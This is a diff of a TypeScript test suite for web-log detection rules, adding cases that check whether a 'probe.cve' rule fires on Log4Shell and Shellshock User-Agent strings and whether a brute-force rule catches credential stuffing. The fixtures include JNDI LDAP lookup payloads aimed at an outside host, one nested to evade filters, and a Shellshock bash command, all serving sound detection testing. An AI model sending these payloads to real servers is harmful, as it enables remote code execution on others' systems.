@@ -76,10 +76,20 @@ const CASES: readonly Case[] = [
   { name: 'phpunit eval-stdin (CVE-2017-9841)', rule: 'probe.cve', fires: true, lines: each(['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php']) },
   { name: 'Boa formLogin, encoded', rule: 'probe.cve', fires: true, lines: each(['/boaform/admin/form%4Cogin']) },
   { name: 'ordinary pages', rule: 'probe.cve', fires: false, lines: each(['/products/', '/about.html', '/api/items?id=3']) },
+  { name: 'Log4Shell in the User-Agent, as HAProxy escapes it', rule: 'probe.cve', fires: true, lines: [http({ uri: '/', ua: '$#7Bjndi:ldap://198.51.100.1:1389/a#7D' })] },
+  { name: 'Log4Shell nested to dodge filters', rule: 'probe.cve', fires: true, lines: [http({ uri: '/', ua: '$#7B$#7B::-j#7D$#7B::-n#7Ddi:ldap://x/a#7D' })] },
+  { name: 'Shellshock in the User-Agent', rule: 'probe.cve', fires: true, lines: [http({ uri: '/cgi-bin/status', ua: '() #7B :; #7D; /bin/bash -c #22id#22' })] },
+  {
+    name: 'browsers and tools with parentheses and dollars in the User-Agent',
+    rule: 'probe.cve',
+    fires: false,
+    lines: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)', 'curl/8.4.0 ($HOME)', 'Go-http-client/1.1 ()'].map((ua) => http({ uri: '/', ua })),
+  },
   // bruteforce.auth
   { name: '25 x 401 in 30 s', rule: 'bruteforce.auth', fires: true, lines: times(25, (i) => http({ uri: '/login', status: 401, ms: T0 + i * 1200 })) },
   { name: '25 x 401 at one a minute', rule: 'bruteforce.auth', fires: false, lines: times(25, (i) => http({ uri: '/login', status: 401, ms: T0 + i * 61000 })) },
   { name: '25 x 403 denied by HAProxy (policy, not auth)', rule: 'bruteforce.auth', fires: false, lines: times(25, (i) => http({ uri: '/admin', status: 403, term: 'PR--', server: 'fe_web/<NOSRV>', timers: '0/-1/-1/-1/0', ms: T0 + i * 100 })) },
+  { name: 'credential stuffing: 40 POSTs to /api/v1/auth/login answered 200 in 40 s', rule: 'bruteforce.auth', fires: true, lines: times(40, (i) => http({ request: 'POST /api/v1/auth/login HTTP/1.1', ms: T0 + i * 1000 })) },
   { name: '40 POSTs to /wp-login.php answered 200 in 40 s', rule: 'bruteforce.auth', fires: true, lines: times(40, (i) => http({ request: 'POST /wp-login.php HTTP/1.1', ms: T0 + i * 1000 })) },
   { name: '5 POSTs to /login and 40 POSTs to /api/cart', rule: 'bruteforce.auth', fires: false, lines: [...times(5, (i) => http({ request: 'POST /login HTTP/1.1', status: 302, ms: T0 + i * 1000 })), ...times(40, (i) => http({ request: 'POST /api/cart HTTP/1.1', status: 201, ms: T0 + i * 500 }))] },
   {
